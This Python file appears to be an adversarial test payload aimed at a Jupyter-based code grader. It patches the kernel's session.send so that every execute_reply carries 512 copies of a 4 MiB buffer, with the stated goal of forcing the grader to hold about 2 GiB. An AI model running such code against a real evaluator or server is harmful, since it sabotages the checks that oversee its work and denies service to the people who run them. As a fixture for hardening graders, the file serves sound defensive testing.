# ruff: noqa: F821  (LOOT, np and exfiltrate come from _common.py; __NAMES__ are filled in by the test)
"""Make the grader hold gigabytes: every execute_reply from now on carries 512 buffer frames of 4 MiB (one
buffer, referenced 512 times, so it costs the kernel 4 MiB and a grader that keeps the whole message 2 GiB)."""

from IPython import get_ipython

session = get_ipython().kernel.session
_send = session.send
BIG = b"x" * (4 << 20)


def send(stream, msg_or_type, content=None, parent=None, ident=None, buffers=None, *args, **kwargs):
    if msg_or_type == "execute_reply":
        buffers = [BIG] * 512
    return _send(stream, msg_or_type, content, parent, ident, buffers, *args, **kwargs)


session.send = send
